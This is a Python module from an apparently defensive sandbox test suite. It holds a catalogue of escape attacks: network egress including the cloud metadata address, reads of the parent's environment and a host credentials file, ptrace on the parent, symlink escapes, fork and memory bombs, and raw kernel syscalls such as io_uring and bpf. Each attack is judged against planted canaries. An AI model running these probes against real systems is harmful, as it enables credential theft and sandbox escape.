"""The attack suite: code an attacker would run in the sandbox, and how to tell it was blocked.

Each attack is real Python run through a backend, judged twice: by what the code itself saw
(its `REPORT {...}` line) and by evidence on the host that the code cannot forge — a TCP, UDP and
abstract Unix server on the host's loopback that count what reaches them, a secret planted in
this process's environment and in a host file, and host paths that must stay absent. An attack
counts as blocked only when both agree, so weakening any layer (the network namespace, the
cleared environment, the read-only mounts, a limit) turns an attack into an escape. The tests
and `quantward bench sandbox` run this same catalogue.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from quantward_sandbox.port import ExecutionRequest, ExecutionResult, Limits, SandboxBackend

SECRET_ENV = "QW_SANDBOX_ATTACK_SECRET"


class _Counter:
    def __init__(self) -> None:
        self.count = 0
        self._lock = threading.Lock()

    def hit(self) -> None:
        with self._lock:
            self.count += 1


@dataclass
class AttackHost:
    """What the host exposes for the attacks to aim at, and what it saw of them."""

    tcp_port: int
    udp_port: int
    abstract_name: str
    secret: str
    secret_file: Path
    canary_dir: Path
    token: str
    tcp_hits: _Counter = field(default_factory=_Counter)
    udp_hits: _Counter = field(default_factory=_Counter)
    unix_hits: _Counter = field(default_factory=_Counter)

    def facts(self) -> dict[str, Any]:
        """What the attack code is told (everything an attacker could learn or guess)."""
        return {
            "tcp_port": self.tcp_port,
            "udp_port": self.udp_port,
            "abstract_name": self.abstract_name,
            "secret_file": str(self.secret_file),
            "canary_dir": str(self.canary_dir),
            "parent_pid": os.getpid(),
            "token": self.token,
            "venv": sys.prefix,
        }

    def reached(self) -> int:
        return self.tcp_hits.count + self.udp_hits.count + self.unix_hits.count


@contextlib.contextmanager
def attack_host() -> Iterator[AttackHost]:
    """Start the host-side targets (loopback only) and plant the secret; undo both on exit."""
    stop = threading.Event()
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    tcp.settimeout(0.1)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.1)
    abstract_name = f"qw-sandbox-attack-{secrets.token_hex(6)}"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + abstract_name)
    unix.listen(16)
    unix.settimeout(0.1)
    secret = "qw-secret-" + secrets.token_hex(16)
    workdir = Path(tempfile.mkdtemp(prefix="qw-attack-host-"))
    secret_file = workdir / "credentials"
    secret_file.write_text(secret)
    secret_file.chmod(0o644)
    canary = workdir / "canary"
    canary.mkdir()
    host = AttackHost(
        tcp_port=tcp.getsockname()[1],
        udp_port=udp.getsockname()[1],
        abstract_name=abstract_name,
        secret=secret,
        secret_file=secret_file,
        canary_dir=canary,
        token=secrets.token_hex(8),
    )

    def accept(sock: socket.socket, counter: _Counter) -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except (TimeoutError, OSError):
                continue
            counter.hit()
            conn.close()

    def receive() -> None:
        while not stop.is_set():
            try:
                udp.recvfrom(4096)
            except (TimeoutError, OSError):
                continue
            host.udp_hits.hit()

    threads = [
        threading.Thread(target=accept, args=(tcp, host.tcp_hits), daemon=True),
        threading.Thread(target=accept, args=(unix, host.unix_hits), daemon=True),
        threading.Thread(target=receive, daemon=True),
    ]
    for thread in threads:
        thread.start()
    previous = os.environ.get(SECRET_ENV)
    os.environ[SECRET_ENV] = secret
    try:
        yield host
    finally:
        if previous is None:
            os.environ.pop(SECRET_ENV, None)
        else:
            os.environ[SECRET_ENV] = previous
        stop.set()
        for thread in threads:
            thread.join()
        for sock in (tcp, udp, unix):
            sock.close()
        for path in sorted(workdir.rglob("*"), reverse=True):
            with contextlib.suppress(OSError):
                path.unlink() if not path.is_dir() or path.is_symlink() else path.rmdir()
        with contextlib.suppress(OSError):
            workdir.rmdir()


Judge = Callable[[ExecutionResult, dict[str, Any], AttackHost], str | None]


@dataclass(frozen=True)
class Attack:
    """One attack: its code (given FACTS), the limits it runs under, and its judge.

    The judge returns None when the attack was blocked, else what escaped.
    """

    name: str
    what: str
    code: str
    judge: Judge
    limits: Limits = field(default_factory=lambda: Limits(cpu_seconds=5, wall_seconds=20))


@dataclass(frozen=True)
class AttackOutcome:
    name: str
    what: str
    blocked: bool
    escaped: str | None
    status: str
    killed_by: str | None
    time_to_kill_s: float
    cpu_s: float | None


_PRELUDE = "import json, os, socket, sys\nFACTS = json.loads({facts!r})\nREPORT = {{}}\n"
_EPILOGUE = "\nprint('REPORT ' + json.dumps(REPORT, default=str), flush=True)\n"


def _report(result: ExecutionResult) -> dict[str, Any]:
    for line in reversed(result.stdout.splitlines()):
        if line.startswith("REPORT "):
            parsed: dict[str, Any] = json.loads(line[len("REPORT ") :])
            return parsed
    return {}


def _leaks(result: ExecutionResult, host: AttackHost) -> bool:
    texts = [result.stdout, result.stderr] + [v.decode(errors="replace") for v in
                                              result.outputs.values()]  # fmt: skip
    return any(host.secret in text for text in texts)


def _network_blocked(
    result: ExecutionResult, report: dict[str, Any], host: AttackHost
) -> str | None:
    if host.reached():
        return f"the host's loopback servers were reached ({host.reached()} connections/packets)"
    if report.get("interfaces") != ["lo"]:
        return f"the sandbox sees network interfaces {report.get('interfaces')} (only lo expected)"
    opened = [k for k, v in report.get("attempts", {}).items() if v == "ok"]
    if opened:
        return f"connections opened: {opened}"
    if not report.get("attempts"):
        return "the attack did not report (it did not run to the end)"
    return None


_NET_HELPERS = """
REPORT['interfaces'] = sorted(name for _, name in socket.if_nameindex())
REPORT['attempts'] = {}
def attempt(label, fn):
    try:
        fn()
        REPORT['attempts'][label] = 'ok'
    except Exception as exc:
        REPORT['attempts'][label] = f'{type(exc).__name__}: {exc}'
def tcp(host, port):
    def go():
        s = socket.create_connection((host, port), timeout=2)
        s.close()
    return go
"""


def _expect_limit(limit: str) -> Judge:
    def judge(result: ExecutionResult, report: dict[str, Any], host: AttackHost) -> str | None:
        if result.killed_by != limit:
            return f"not stopped by the {limit} limit (status {result.status}, killed_by " \
                f"{result.killed_by}, exit {result.exit_code})"  # fmt: skip
        return None

    return judge


def _judge_environment(
    result: ExecutionResult, report: dict[str, Any], host: AttackHost
) -> str | None:
    if _leaks(result, host):
        return "the secret planted in the parent's environment was read"
    if not report.get("scanned"):
        return "the attack did not report (it did not run to the end)"
    if report.get("environ_keys", []) and set(report["environ_keys"]) - {"PWD", "LC_CTYPE"}:
        return f"the environment is not empty: {report['environ_keys']}"
    extra_fds = [fd for fd in report.get("fds", []) if int(fd) > 2]
    if extra_fds:
        return f"descriptors inherited from the host: {report.get('fd_targets')}"
    return None


def _judge_ptrace(result: ExecutionResult, report: dict[str, Any], host: AttackHost) -> str | None:
    if report.get("attach") is None:
        return "the attack did not report (it did not run to the end)"
    if report["attach"] == 0:
        return "ptrace(PTRACE_ATTACH) on the parent succeeded"
    if report.get("parent_visible"):
        return "the parent process is visible in the sandbox's /proc"
    return None


def _judge_writes(result: ExecutionResult, report: dict[str, Any], host: AttackHost) -> str | None:
    written = [path for path, outcome in report.get("writes", {}).items() if outcome == "ok"]
    if not report.get("writes"):
        return "the attack did not report (it did not run to the end)"
    inside_tmp = [p for p in written if p.startswith("/tmp/")]
    if set(written) - set(inside_tmp):
        return f"wrote outside scratch: {sorted(set(written) - set(inside_tmp))}"
    on_host = [
        host.canary_dir / f"x-{host.token}",
        Path(tempfile.gettempdir()) / f"qw-attack-{host.token}",
        Path(sys.prefix) / f"qw-attack-{host.token}",
        Path(json.__file__).parent / f"qw-attack-{host.token}",
    ]
    found = [str(p) for p in on_host if p.exists()]
    if found or any(host.canary_dir.iterdir()):
        return f"files appeared on the host: {found or list(host.canary_dir.iterdir())}"
    return None


def _judge_symlinks(
    result: ExecutionResult, report: dict[str, Any], host: AttackHost
) -> str | None:
    if _leaks(result, host):
        return "the host secret file was read through a link planted in scratch"
    if not report.get("linked"):
        return "the attack did not report (it did not run to the end)"
    return None


_WRITE_TARGETS = """
REPORT['writes'] = {}
targets = ['/', '/usr', '/etc', '/run/quantward', '/proc/sys/kernel', FACTS['venv'],
           os.path.dirname(json.__file__), FACTS['canary_dir'],
           os.path.dirname(FACTS['secret_file']), '/tmp']
for directory in targets:
    path = os.path.join(directory, 'x-' + FACTS['token'] if directory == FACTS['canary_dir']
                        else 'qw-attack-' + FACTS['token'])
    try:
        with open(path, 'w') as f:
            f.write('pwned')
        REPORT['writes'][path] = 'ok'
    except OSError as exc:
        REPORT['writes'][path] = f'{type(exc).__name__}: {exc}'
"""

ATTACKS: tuple[Attack, ...] = (
    Attack(
        "tcp-egress",
        "TCP to the host's 127.0.0.1 server and to the internet",
        _NET_HELPERS
        + """
attempt('loopback', tcp('127.0.0.1', FACTS['tcp_port']))
attempt('internet', tcp('1.1.1.1', 443))
""",
        _network_blocked,
    ),
    Attack(
        "dns-egress",
        "name resolution, and DNS queries over UDP to the host's loopback and a public resolver",
        _NET_HELPERS
        + """
query = bytes.fromhex('abcd01000001000000000000076578616d706c6503636f6d0000010001')
def udp(host, port):
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(query, (host, port))
        s.recvfrom(512)
    return go
attempt('getaddrinfo', lambda: socket.getaddrinfo('example.com', 443))
attempt('udp-loopback', udp('127.0.0.1', FACTS['udp_port']))
attempt('udp-public', udp('8.8.8.8', 53))
""",
        _network_blocked,
    ),
    Attack(
        "cloud-metadata",
        "the cloud metadata address 169.254.169.254",
        _NET_HELPERS
        + """
attempt('metadata-http', tcp('169.254.169.254', 80))
""",
        _network_blocked,
    ),
    Attack(
        "parent-environment",
        "the parent's environment: os.environ, /proc/*/environ, /proc/*/cmdline, inherited fds",
        """
dump = []
REPORT['environ_keys'] = sorted(os.environ)
dump.append(repr(dict(os.environ)))
for pid in os.listdir('/proc'):
    if pid.isdigit() or pid in ('self', 'thread-self'):
        for name in ('environ', 'cmdline'):
            try:
                dump.append(open(f'/proc/{pid}/{name}', 'rb').read().decode(errors='replace'))
            except OSError as exc:
                dump.append(f'{pid}/{name}: {exc}')
for pid in (str(FACTS['parent_pid']), '1'):
    try:
        dump.append(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace'))
    except OSError:
        pass
fds = os.listdir('/proc/self/fd')
REPORT['fds'] = [fd for fd in fds if os.path.exists(f'/proc/self/fd/{fd}')]
REPORT['fd_targets'] = {fd: os.readlink(f'/proc/self/fd/{fd}') for fd in REPORT['fds']}
REPORT['fds'] = [fd for fd, target in REPORT['fd_targets'].items()
                 if not target.startswith('/proc/') or int(fd) <= 2]
print('\\n'.join(dump)[:200000])
REPORT['scanned'] = True
""",
        _judge_environment,
    ),
    Attack(
        "host-secret-file",
        "reading a credentials file on the host by its path",
        """
for path in (FACTS['secret_file'], '/proc/1/root' + FACTS['secret_file']):
    try:
        print(open(path).read())
    except OSError as exc:
        print(type(exc).__name__, exc)
REPORT['scanned'] = True
""",
        _judge_environment,
    ),
    Attack(
        "ptrace-parent",
        "ptrace(PTRACE_ATTACH) on the parent (the gateway's process)",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
REPORT['attach'] = libc.ptrace(16, FACTS['parent_pid'], None, None)
REPORT['errno'] = os.strerror(ctypes.get_errno())
REPORT['parent_visible'] = os.path.exists(f"/proc/{FACTS['parent_pid']}")
""",
        _judge_ptrace,
    ),
    Attack(
        "write-outside-scratch",
        "writing to /, /usr, /etc, the venv, the stdlib, a host directory and /tmp",
        _WRITE_TARGETS,
        _judge_writes,
    ),
    Attack(
        "fork-bomb",
        "processes forking without end",
        """
import time
while True:
    os.fork()
""",
        _expect_limit("pids"),
        Limits(cpu_seconds=5, wall_seconds=20, processes=32),
    ),
    Attack(
        "memory-bomb",
        "allocating and touching memory without end",
        """
chunks = []
while True:
    chunks.append(bytearray(64 << 20))
""",
        _expect_limit("memory"),
        Limits(cpu_seconds=5, wall_seconds=20, memory_bytes=512 << 20),
    ),
    Attack(
        "cpu-loop",
        "a busy loop",
        "while True:\n    pass\n",
        _expect_limit("cpu"),
        Limits(cpu_seconds=1, wall_seconds=30),
    ),
    Attack(
        "output-flood",
        "writing to stdout without end",
        """
chunk = 'x' * (1 << 20)
while True:
    sys.stdout.write(chunk)
""",
        lambda r, rep, h: (
            _expect_limit("output")(r, rep, h)
            or (None if r.truncated and len(r.stdout.encode()) <= 64 << 10 else "output not capped")
        ),
        Limits(cpu_seconds=5, wall_seconds=20, output_bytes=64 << 10),
    ),
    Attack(
        "huge-file",
        "writing one file without end",
        """
with open('/scratch/out/huge', 'wb') as f:
    while True:
        f.write(b'x' * (1 << 20))
""",
        lambda r, rep, h: (
            _expect_limit("file_size")(r, rep, h)
            or (None if all(len(v) <= 8 << 20 for v in r.outputs.values()) else "file not capped")
        ),
        Limits(cpu_seconds=5, wall_seconds=20, file_size_bytes=8 << 20),
    ),
    Attack(
        "symlink-escape",
        "links in scratch/out to a host credentials file and to /etc, for the host to follow",
        """
os.symlink(FACTS['secret_file'], '/scratch/out/leak')
os.symlink(os.path.dirname(FACTS['secret_file']), '/scratch/out/dir')
os.symlink('/etc', '/scratch/out/etc')
REPORT['linked'] = True
""",
        _judge_symlinks,
    ),
    Attack(
        "scratch-out-swapped",
        "scratch/out itself replaced by a link to the host directory holding credentials",
        """
os.rmdir('/scratch/out')
os.symlink(os.path.dirname(FACTS['secret_file']), '/scratch/out')
REPORT['linked'] = True
""",
        _judge_symlinks,
    ),
    Attack(
        "kernel-surface",
        "raw system calls into the kernel interfaces exploits favour (io_uring, userfaultfd, "
        "eBPF, perf events, keyrings, personality): a kernel bug there is a host escape",
        """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(256)
CALLS = {  # x86_64 numbers; the attack is meaningful there, where the filter is described
    'keyctl-join-session': (250, 1, 0),
    'add_key': (248, b'user', b'qw', b'x', 1, -3),
    'userfaultfd': (323, 1),
    'io_uring_setup': (425, 1, params),
    'bpf': (321, 0, 0, 0),
    'perf_event_open': (298, 0, 0, -1, -1, 0),
    'personality': (135, 0xffffffff),
}
REPORT['machine'] = platform.machine()
for name, (nr, *args) in CALLS.items():
    ctypes.set_errno(0)
    result = libc.syscall(nr, *args)
    REPORT[name] = 'ok' if result >= 0 else os.strerror(ctypes.get_errno())
""",
        lambda r, rep, h: (
            None
            if rep.get("machine") not in (None, "x86_64")  # no filter described elsewhere
            else (
                "no report"
                if len(rep) < 2
                else ", ".join(f"{k} allowed" for k, v in rep.items() if v == "ok") or None
            )
        ),
    ),
    Attack(
        "socket-ctypes-host",
        "raw connect(2) through ctypes to the host's 127.0.0.1, and the host's abstract socket",
        _NET_HELPERS
        + """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
def raw_connect():
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    addr = struct.pack('!HH4s8x', socket.AF_INET, FACTS['tcp_port'], socket.inet_aton('127.0.0.1'))
    addr = struct.pack('=H', socket.AF_INET) + addr[2:]
    if libc.connect(fd, ctypes.c_char_p(addr), len(addr)) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect('\\0' + FACTS['abstract_name'])
attempt('ctypes-connect-loopback', raw_connect)
attempt('abstract-unix', abstract)
""",
        _network_blocked,
    ),
)


async def run_attack(backend: SandboxBackend, attack: Attack, host: AttackHost) -> AttackOutcome:
    """Run one attack through `backend` and judge it against the host's evidence."""
    host.tcp_hits.count = host.udp_hits.count = host.unix_hits.count = 0
    code = _PRELUDE.format(facts=json.dumps(host.facts())) + attack.code + _EPILOGUE
    result = await backend.execute(ExecutionRequest(code=code, limits=attack.limits))
    escaped = attack.judge(result, _report(result), host)
    return AttackOutcome(
        name=attack.name,
        what=attack.what,
        blocked=escaped is None,
        escaped=escaped,
        status=result.status,
        killed_by=result.killed_by,
        time_to_kill_s=result.duration_s,
        cpu_s=result.cpu_s,
    )
